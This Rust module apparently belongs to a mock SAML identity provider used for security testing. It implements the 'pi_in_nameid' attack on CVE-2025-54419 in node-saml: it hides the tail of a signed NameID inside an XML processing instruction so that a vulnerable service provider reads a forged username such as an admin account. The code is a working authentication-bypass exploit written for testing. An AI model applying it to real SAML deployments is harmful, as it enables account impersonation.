//! `pi_in_nameid`: the end of the signed NameID hidden in a processing instruction
//! (CVE-2025-54419, GHSA-4mxg-3p6v-xgq3, @node-saml/node-saml before 5.1.0).
//!
//! Built from the advisory ("node-saml loads the assertion from the unsigned original
//! document, not from what the signature verified; an attacker holding a validly signed
//! document can remove any character from the username") and from reading what the two sides
//! of node-saml 5.0.1 do with one node type:
//! - xml-crypto canonicalizes every child node that has `data` as escaped text, and a
//!   processing instruction has `data`: `admin@acme.test<?t .attacker.test?>` canonicalizes
//!   as the text `admin@acme.test.attacker.test`, which is what the IdP signed;
//! - node-saml 5.0.1 then reads the profile with xml2js from the received DOM, and xml2js
//!   skips processing instructions: the NameID it returns is `admin@acme.test`.
//!
//! node-saml 5.1.0 reads the profile from the canonical bytes xml-crypto verified, where the
//! hidden part is text again, so it signs in the genuine (attacker's own) identity. A
//! conformant canonicalizer (xmlsec1, libxml2) writes the PI as a PI, so the digest no longer
//! matches there: the message is refused by SPs that canonicalize by the book.

use super::ctx::Ctx;
use super::dom::{Element, Node};
use crate::error::{Error, Result};
use crate::saml::xml::NS_SAML;

/// The target of the processing instruction. Any name but `xml` does; this one tells a
/// reader of the exchange log who put it there.
pub const TARGET: &str = "mock-idp";

/// Replaces the text of every NameID and attribute value equal to the genuine identity with
/// the forged identity followed by `<?mock-idp REST?>`, REST being the rest of the genuine one.
pub fn hide_rest_in_pi(root: &mut Element, ctx: &Ctx<'_>) -> Result<()> {
    let forged = ctx.forged()?.to_string();
    let rest = hidden_rest(&ctx.genuine, &forged)?;
    let genuine = ctx.genuine.clone();
    let mut split = 0usize;
    root.walk_mut(&mut |e: &mut Element| {
        if (e.is(NS_SAML, "NameID") || e.is(NS_SAML, "AttributeValue")) && e.text() == genuine {
            e.children = vec![
                Node::Text(forged.clone()),
                Node::Pi(TARGET.to_string(), rest.clone()),
            ];
            split += 1;
        }
    });
    if split == 0 {
        return Err(Error::BadRequest(
            "attack pi_in_nameid needs a NameID, and this response has none".into(),
        ));
    }
    Ok(())
}

/// What goes into the PI: the genuine identity after the forged prefix. It must survive as PI
/// data unchanged: XML parsers drop the whitespace that separates target and data (and
/// xmldom also trims the end), and `?>` would end the PI.
fn hidden_rest(genuine: &str, forged: &str) -> Result<String> {
    let rest = genuine
        .strip_prefix(forged)
        .filter(|r| !r.is_empty())
        .ok_or_else(|| {
            Error::BadRequest(format!(
                "pi_in_nameid: forged_identity '{forged}' must be a proper prefix of the signed-in user's NameID '{genuine}' (e.g. admin@acme.test for admin@acme.test.attacker.test)"
            ))
        })?;
    if rest.starts_with(char::is_whitespace)
        || rest.ends_with(char::is_whitespace)
        || rest.contains("?>")
    {
        return Err(Error::BadRequest(format!(
            "pi_in_nameid: the rest of the signed-in user's NameID after the forged identity ('{rest}') must not begin or end with white space nor contain '?>' (it becomes processing-instruction data)"
        )));
    }
    Ok(rest.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_rest_is_what_follows_a_proper_prefix() {
        assert_eq!(
            hidden_rest("admin@acme.test.attacker.test", "admin@acme.test").unwrap(),
            ".attacker.test"
        );
        for (genuine, forged) in [
            ("admin@acme.test", "admin@acme.test"),
            ("sam@acme.test", "admin@acme.test"),
            ("admin@acme.test x", "admin@acme.test"),
            ("admin@acme.test ?>x", "admin@acme.test "),
            ("admin@acme.test?>x", "admin@acme.test"),
        ] {
            let e = hidden_rest(genuine, forged).unwrap_err().to_string();
            assert!(e.contains("pi_in_nameid"), "{genuine} / {forged}: {e}");
        }
    }
}
